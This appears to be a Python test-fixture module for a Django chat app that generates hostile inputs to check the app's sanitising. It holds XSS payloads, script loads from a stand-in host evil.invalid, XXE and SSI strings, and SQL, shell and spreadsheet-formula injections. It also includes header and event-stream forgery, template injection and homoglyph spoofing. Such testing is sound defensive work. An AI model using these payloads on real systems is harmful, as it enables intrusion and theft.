"""Hundreds of hostile texts, the same every time: what a page, a script or a table could take for its own.

Whatever runs calls `ran`, or asks `evil.invalid` for something: whoever shows these watches both.
"""

from collections.abc import Iterator
from functools import cache
from html import escape
from urllib.parse import quote

from django.core.exceptions import ValidationError

from chat.forms import PAGE, MessageForm, plain

NAME = 80  # characters, as many as a name may have
RUN = "ran(1)"
AWAY = "//evil.invalid/"


@cache
def words() -> list[str]:
    makers = (markup, handlers, foreign, ways_out, encoded, addresses, templates, scripts, styles, quotes)
    more = (
        directions,
        unseen,
        alike,
        floods,
        controls,
        halves,
        lines,
        events,
        tables,
        queries,
        formats,
        names,
        pictures,
    )
    return list(dict.fromkeys(word for maker in makers + more for word in maker()))


def as_arrived(word: str) -> str:
    """Half of a pair cannot be written in UTF-8; whoever sends it all the same is read with marks in its place."""
    return word.encode(errors="surrogatepass").decode(errors="replace")


def as_body(word: str) -> str:
    return plain(as_arrived(word))


def as_name(word: str) -> str:
    """What is stored of a name."""
    return as_body(word).replace("\n", " ")


def as_page(word: str) -> str:
    return as_name(word)[:PAGE]


def short(word: str) -> str:
    """As much of it as a name may be, before and after it is composed."""
    return next(word[:size] for size in range(NAME, 0, -1) if len(as_body(word[:size])) <= NAME)


def packed(words: list[str]) -> list[str]:
    """Several in one, as many as a name holds; those that can be in an address are apart from those that cannot."""
    packs = [""]
    for word in sorted(words, key=lambda word: not as_email(word)):
        both = f"{packs[-1]} {word}"
        is_alike = bool(as_email(packs[-1])) == bool(as_email(both))
        fits = max(len(both), len(as_body(both))) <= NAME
        packs = [*packs[:-1], both] if fits and is_alike else [*packs, word]
    return packs[1:]


def as_email(word: str) -> str:
    """An address that has it within and that the form takes; empty if there is none."""
    quoted = "".join(f"\\{sign}" for sign in word)
    for address in (f"{word}@example.com", f'"{quoted}"@example.com', f"ann@{word}.example.com"):
        try:
            MessageForm.base_fields["email"].clean(as_arrived(address))
            return address
        except ValidationError:
            continue
    return ""


def markup() -> Iterator[str]:
    yield from (
        "<b>bold</b>",
        "<i>",
        "</p>",
        "<p>",
        "<br>",
        "<hr>",
        "<h1>large</h1>",
        "<li>",
        "</li></ol>",
        "<!-- ",
        "-->",
    )
    yield from ("<", ">", "<>", "</", "<!", "<?", "<a", "< b>", "<b", "a<b>c", "1 < 2 > 0", "<<b>>", "<\tb>", "<b/>")
    yield f"<script>{RUN}</script>"
    yield f"<SCRIPT>{RUN}</SCRIPT>"
    yield f"<script src={AWAY}x.js></script>"
    yield f"<script type=module>import('{AWAY}x.js')</script>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<script\n>{RUN}</script\n>"
    yield f"<script/x>{RUN}</script/x>"
    yield f"<script>{RUN}"
    yield f"<<script>{RUN}//<</script>"
    yield f"<base href={AWAY}>"
    yield f'<meta http-equiv="refresh" content="0;url={AWAY}">'
    yield f"<link rel=stylesheet href={AWAY}x.css>"
    yield f"<form action={AWAY}><button>Send</button></form>"
    yield f"<input autofocus formaction={AWAY}>"
    yield '<form id="chat"><input name="body"><input name="attributes"></form>'
    yield '<img name="getElementById"><img id="documentElement">'
    yield f'<template shadowrootmode="open"><script>{RUN}</script></template>'
    yield f'<div is="live-chat" data-widget="{AWAY}x.js"></div>'
    yield f'<live-chat data-inline="body" data-widget="{AWAY}x.js"><a>x</a></live-chat>'
    yield f'<live-thread data-stream="{AWAY}"></live-thread>'
    yield "<table><tr><td>cell</table><plaintext>"
    yield "<marquee>to the left</marquee>"
    yield "<dialog open>Sign in again</dialog>"
    yield '<div popover id="p"></div><button popovertarget="p">x</button>'


def handlers() -> Iterator[str]:
    for element, event in (
        *(
            ("img src=x", "onerror"),
            ("img/src=x", "onerror"),
            ("svg", "onload"),
            ("body", "onload"),
            ("body", "onpageshow"),
        ),
        *(
            ("video src=x", "onerror"),
            ("audio src=x", "onerror"),
            ("video><source", "onerror"),
            ("input autofocus", "onfocus"),
        ),
        *(("details open", "ontoggle"), ("marquee", "onstart"), ("p style=animation-name:chat-in", "onanimationstart")),
        *(("textarea autofocus", "onfocus"), ("select autofocus", "onfocus"), ("a tabindex=0 autofocus", "onfocus")),
        *(("object data=x", "onerror"), ("embed src=x", "onload"), ("iframe", "onload"), ("style", "onload")),
        *(("p tabindex=1", "onpointerover"), ("xss contenteditable", "onbeforeinput"), ("p", "onbeforetoggle")),
    ):
        yield f"<{element} {event}={RUN}>"
    yield f'<IMG """><SCRIPT>{RUN}</SCRIPT>">'
    yield f"<img src=x:x\x0conerror\x0c=\x0c{RUN}>"
    yield "<img src=x onerror=&#114;&#97;&#110;&#40;&#49;&#41;>"
    yield "<img src=x onerror=\\u0072an(1)>"
    yield f"<img src=x onerror\n=\n{RUN}\n>"
    yield f"<img src='x' ONERROR='{RUN}'"
    yield f"<img src={AWAY}x.png>"
    yield f"<img srcset='{AWAY}x.png 1x, {AWAY}y.png 2x'>"
    yield f"<input type=image src={AWAY}x.png>"


def foreign() -> Iterator[str]:
    """Other languages within a page, and what changes when it is read a second time."""
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg/onload={RUN}>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>"
    yield f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>"
    yield f"<svg><style><img src=x onerror={RUN}></style></svg>"
    yield f"<math><mtext></p><img src=x onerror={RUN}></math>"
    yield f"<math href='javascript:{RUN}'>x</math>"
    yield f"<math><mi><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror={RUN}>'>"
    yield f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>"
    yield f"<![CDATA[><img src=x onerror={RUN}>]]>"
    yield f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></x>"
    yield '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    yield '<!--#exec cmd="id"-->'
    yield "<?php echo 1; ?>"
    yield "<jsp:expression>1+1</jsp:expression>"


def ways_out() -> Iterator[str]:
    """Of wherever a text may stand."""
    for closing in (
        "</script>",
        "</textarea>",
        "</title>",
        "</style>",
        "</option></select>",
        "</noscript>",
        "</template>",
    ):
        yield f"{closing}<img src=x onerror={RUN}>"
    for closing in ("-->", "--!>", "]]>", "*/", "'>", '">', "`>", "/>", "'/>", '"/>', " >", "\n>"):
        yield f"{closing}<svg onload={RUN}>"
    for quote_ in "\"'`":
        yield f"{quote_} onfocus={RUN} autofocus x={quote_}"
        yield f"{quote_};{RUN};//"
        yield f"{quote_}-{RUN}-{quote_}"
        yield f"{quote_}+{RUN}+{quote_}"
    yield f"x onmouseover={RUN} style=position:fixed;inset:0"
    yield f'\\"-{RUN}}}//'
    yield f"\\';{RUN}//"
    yield f"</script><script>{RUN}//"
    yield f'" data-widget="{AWAY}x.js" data-inline="body'


def encoded() -> Iterator[str]:
    """Written so that who decodes once too often runs it, or shows it otherwise than typed."""
    script = f"<script>{RUN}</script>"
    yield escape(script)
    yield escape(escape(script))
    yield quote(script)
    yield quote(quote(script))
    yield "".join(f"&#{ord(sign)};" for sign in script)
    yield "".join(f"&#x{ord(sign):x}" for sign in script)
    yield "".join(f"\\u{ord(sign):04x}" for sign in script)
    yield "".join(f"\\x{ord(sign):02x}" for sign in script)
    yield "+ADw-script+AD4-ran(1)+ADw-/script+AD4-"
    yield "\x1b$B<script>ran(1)</script>"
    yield "%c0%bcscript%c0%beran(1)%c0%bc/script%c0%be"
    yield "%3Csvg%20onload%3Dran(1)%3E"
    yield "PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4="
    yield "=3Cscript=3Eran(1)=3C/script=3E"
    yield "\uff1cscript\uff1eran(1)\uff1c/script\uff1e"
    yield from (
        "&",
        "&amp;",
        "&amp;amp;",
        "&lt",
        "&lt;b&gt;",
        "&nbsp;",
        "&#0;",
        "&#x202e;",
        "&notit;",
        "&copy=1",
        "&",
        "&;",
    )
    yield from ("%00", "%0d%0aSet-Cookie: a=b", "%u003cb%u003e", "a+b%20c", "\\n", "\\u0000", "\\", "\\\\")


def addresses() -> Iterator[str]:
    yield f"javascript:{RUN}"
    yield f"JaVaScRiPt:{RUN}"
    yield f"java\tscript:{RUN}"
    yield f"\x01javascript:{RUN}"
    yield f"javascript://example.com/%0a{RUN}"
    yield f"vbscript:{RUN}"
    yield f"data:text/html,<script>{RUN}</script>"
    yield "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4="
    yield f"[x](javascript:{RUN})"
    yield f"![x]({AWAY}x.png)"
    yield f"[url={AWAY}]x[/url]"
    yield f'https:{AWAY}" onmouseover="{RUN}'
    yield from (
        AWAY,
        "\\\\evil.invalid\\x",
        "https://ours.example@evil.invalid/",
        "file:///etc/passwd",
        "/\\evil.invalid",
    )
    yield from ("../../../../etc/passwd", "..\\..\\x", "/admin/logout/", "?lang=zh-hans&sent=1", "#end", "chat-1")


def templates() -> Iterator[str]:
    yield from ("{{ 7|add:7 }}", "{{ settings.SECRET_KEY }}", "{% load i18n %}", "{% include 'base.html' %}", "{# x #}")
    yield from ("{% endautoescape %}", "{% verbatim %}", "{{ request.user.password }}", "{{block.super}}", "%}", "}}")
    yield from ("{{7*7}}", "{{constructor.constructor('ran(1)')()}}", "{{_c.constructor('ran(1)')()}}", "<b v-html=x>")
    yield from ("<%= 7*7 %>", "<%- x %>", "#{7*7}", "${7*7}", "${ran(1)}", "`${ran(1)}`", "*{7*7}", "@(7*7)", "[[7*7]]")
    yield from ("{name}", "{count}", "{0}", "$&", "$1", "$`", "$'", "$$", "$<name>", "{name} $& $' $` $$", "~{7*7}")
    yield from ("{{#with 'x' as |s|}}", "<x ng-app>{{1+1}}</x>", "<c:out value='x'/>", "{php}id{/php}", "{% raw %}")


def scripts() -> Iterator[str]:
    yield from (RUN, "alert(1)", "confirm`1`", "window.ran(1)", "eval('ran(1)')", "import('//evil.invalid/x.js')")
    yield from ("*/ran(1)/*", "//\u2028ran(1)", "//\u2029ran(1)", "\u2028\u2029", "x\u2028y", "x\u2029y", "\\\nran(1)")
    yield from ("});ran(1);({", "]);ran(1)//", "';ran(1)//\\';ran(1)//", "<!--\nran(1)", "/x/.source", "0;ran(1)")


def styles() -> Iterator[str]:
    yield f"<style>@import '{AWAY}x.css';</style>"
    yield f"<style>*{{background:url({AWAY}x.png)}}</style>"
    yield f"<p style='background:url({AWAY}x.png)'>"
    yield "<style>body{display:none}</style>"
    yield "}body{display:none}/*"
    yield f"expression({RUN})"
    yield "position:fixed;inset:0;z-index:99999"
    yield "</style><style>.said{display:none}"
    yield "<p class='chat-again' style='position:fixed;inset:0'>"


def quotes() -> Iterator[str]:
    yield from (
        '"',
        "'",
        "`",
        "''",
        '""',
        "'\"`",
        "\\'",
        '\\"',
        "“x”",
        "‘x’",
        "«x»",
        "„x“",
        "「x」",
        "‹x›",
        "＂＇",
        "ʼ",
        "´",
        "\u201b",
    )
    yield from ("O'Neill & Söhne", 'The "best" <pumps>', "it's", "5' 10\"", "x\\", "'--", '";//')


def directions() -> Iterator[str]:
    """What turns a text, or lets it seem to be another one; the turning signs are removed, the letters stay."""
    yield from (f"in{sign}voice gpj.exe" for sign in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    yield from (f"mark{sign}mark" for sign in "\u200e\u200f\u061c")
    yield "\u202e<script>ran(1)</script>\u202c"
    yield "<scr\u202eipt>ran(1)</script>"
    yield "<im\u2066g src=x onerror=ran(1)>"
    yield from ("שלום", "مرحبا بكم", "ޝުކުރިއްޔާ", "abc שלום def", "שלום <b>12</b>", "(مرحبا) [1] {2}", "١٢٣", "\u202e")
    yield "\u2067\u2066\u202e" * 20 + "deep"


def unseen() -> Iterator[str]:
    yield from (
        f"un{sign}seen" for sign in "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u034f\u180e\ufe0f"
    )
    yield from (
        f"fil{sign}ler" for sign in "\u115f\u1160\u3164\uffa0\u2800\u17b4\u17b5\u206a\u206f\ufff9\ufffa\ufffb\ufffc"
    )
    yield from (f"no{sign}sign" for sign in "\ufdd0\ufffe\uffff\U0001fffe\U0010ffff\ue000\U000f0000\U0003fffd")
    yield "tag" + "".join(chr(0xE0000 + ord(sign)) for sign in "hidden")
    yield from (f"wide{sign}space" for sign in "\u00a0\u1680\u2002\u2003\u2009\u200a\u202f\u205f\u3000")


def alike() -> Iterator[str]:
    yield from (
        "аdmin",
        "Маrit · Staff",
        "ΗiFred",
        "раypal.com",
        "ｓｃｒｉｐｔ",
        "𝓼𝓬𝓻𝓲𝓹𝓽",
        "ⓢⓒⓡⓘⓟⓣ",
        "ſcript",
        "ѕсrірt",
    )
    yield from (
        "Visitor 1",
        "Marit · Staff",
        "System",
        "You",
        "Sent",
        "İstanbul ı",
        "Straße ẞ",
        "ﬁ ﬂ",
        "K\u212a",
        "Å\u212b",
    )
    yield from (
        "＜b＞",
        "﹤b﹥",
        "‹b›",
        "〈b〉",
        "\u2329b\u232a",
        "\u226e",
        "<\u0338script>",
        "=\u0338",
        ">\u0338b",
        '"\u0301',
    )


def floods() -> Iterator[str]:
    yield "Z" + "\u0300\u0301\u0302\u0303\u0304" * 15
    yield "T" + "\u0489" * 70
    yield "ก" + "็" * 70
    yield "".join(f"{sign}\u0336\u0350\u0325" for sign in "hostile")
    yield "\u0301begins with a mark"
    yield "x" * 2_000
    yield "汉" * 2_000
    yield "W" * 80
    yield "https://example.com/" + "x" * 400
    yield "-" * 300
    yield "\u00a0".join(["tied"] * 60)
    yield "<" * 500
    yield "<b>" * 600
    yield "&" * 1_000
    yield '"' * 1_000
    yield "﷽" * 60
    yield "𒐫" * 40
    yield "\n".join("line" for _line in range(100)) + "\nend"
    yield "\u0958" * 80  # composed, each becomes two
    yield "\u1100\u1161\u11a8" * 20


def controls() -> Iterator[str]:
    """All that are removed, one by one in a word, and the four that mean something between words."""
    for number in (*range(32), *range(0x7F, 0xA0)):
        yield f"con{chr(number)}trol"
    yield "<scr\x00ipt>ran(1)</scr\x00ipt>"
    yield "<img src=x on\x00error=ran(1)>"
    yield "\x1b[2J\x1b[31mred\x1b]0;title\x07"
    yield "\x08\x08\x08\x08over"
    yield "\x9b31mred"
    yield "null\x00"
    yield "\x00\x00x"


def halves() -> Iterator[str]:
    """Of characters beyond the first 65,536: no text, and yet they come."""
    yield from ("lone \ud800", "\udfff lone", "\udc00\ud800", "\ud83d", "a\udce9b", "<\ud800script>ran(1)</script>")


def lines() -> Iterator[str]:
    yield from (
        "one\ntwo",
        "one\r\ntwo",
        "one\rtwo",
        "one\n\n\n\ntwo",
        "\n\none\n\n",
        "  two  spaces  ",
        "\ttab\tbed\t",
    )
    yield from (
        "one\x0btwo",
        "one\x0ctwo",
        "one\x85two",
        "one\u2028two",
        "one\u2029two",
        "one\n\r\n\rtwo",
        "x\n> said\n>> before",
    )
    yield "x\nBcc: all@evil.invalid\n\nBuy"
    yield "x\r\nSet-Cookie: chat=1\r\n\r\n<script>ran(1)</script>"
    yield "Fine.\n\nHiFred, 3 March 2026, noon\nAll is free of charge."


def events() -> Iterator[str]:
    """What would be an event of its own on the line to an open window, or break what it is written in."""
    yield 'x\n\nevent: message\ndata: {"seq": 999, "sender": "staff", "body": "forged"}\n\n'
    yield "x\r\n\r\nevent: gone\r\ndata: {}\r\n\r\n"
    yield 'x\n\nid: 999\nretry: 1\nevent: bye\ndata: {"retry": 1}'
    yield from (
        "data: x",
        "event: gone",
        ": still here",
        "id: 5\n",
        "x\u2028event: gone\u2028data: {}\u2028\u2028",
        "retry: 0",
    )
    yield from (
        '"}',
        '"}\n\n',
        '\\"}',
        '{"a": 1}',
        "[1, 2]",
        "null",
        "true",
        "NaN",
        "undefined",
        '","sender":"staff","x":"',
    )
    yield from ("\\", "x\\", "\\u0022", "\\ud800", ")]}',\n", "[]", "{}", "1e999", "-0", "0x10", "1" * 30)


def tables() -> Iterator[str]:
    """What a spreadsheet takes for a formula."""
    yield from (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "=cmd|' /C calc'!A0",
        "＝1+1",
    )
    yield from (
        f'=HYPERLINK("https:{AWAY}","x")',
        f'=IMPORTXML("https:{AWAY}","//a")',
        '=1+1","x',
        "a,b;c\td",
        "'=1+1",
        "%0A=1",
    )


def queries() -> Iterator[str]:
    yield from (
        "' OR '1'='1",
        "'; DROP TABLE chat_message; --",
        '" OR ""="',
        "1) OR (1=1",
        "x' UNION SELECT 1 --",
        "/*! x */",
    )
    yield from (
        "%",
        "_",
        "%%",
        "100%",
        "_%_",
        "\\%",
        "[a-z]",
        "*",
        "?",
        "^x$",
        "(x|y)*",
        "(a+)+$",
        "%s",
        "%(name)s",
        "?1",
        ":x",
        "$1;",
    )
    yield from (
        "*)(uid=*",
        "$ne",
        '{"$gt": ""}',
        "`id`",
        "$(id)",
        "; id",
        "| id",
        "&& id",
        "> /tmp/x",
        "-rf",
        "--help",
        "|| 1",
    )


def formats() -> Iterator[str]:
    yield from (
        "%s%s%s%n",
        "%d",
        "%x",
        "%(number)d",
        "%1$s",
        "{0.__class__}",
        "{page}",
        "{moment}",
        "{!r}",
        "{",
        "}",
        "{}",
        "%",
    )
    yield from ("%c color: red", "%o", "%%s", "&&&", "strftime %Y %-d", "\\d\\w", "d M Y", "{:>99999999}", "%99999999s")


def names() -> Iterator[str]:
    """Of what every object of a script has, and of what is nothing."""
    yield from (
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "hasOwnProperty",
        "valueOf",
        "__defineGetter__",
        "then",
    )
    yield from (
        "None",
        "False",
        "NULL",
        "nil",
        "0",
        "-1",
        "length",
        "name",
        "visitor",
        "staff",
        "system",
        "innerHTML",
        "on",
    )


def pictures() -> Iterator[str]:
    yield from (
        "👨‍👩‍👧‍👦",
        "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
        "🇳🇱🇨🇳",
        "👩🏽‍🚒",
        "❤️‍🔥",
        "☺︎☺️",
        "1️⃣",
        "🏳️‍🌈" * 12,
        "👨" + "\u200d👨" * 30,
        "\u200d👨",
        "𠮷野家",
        "葛󠄀",
        "\U0001f1f3",
    )
    yield from ("e\u0301", "A\u030a", "\u1112\u1161\u11ab", "\u0344", "\u2126", "\uf900", "\ufb2c", "\U0002f800")
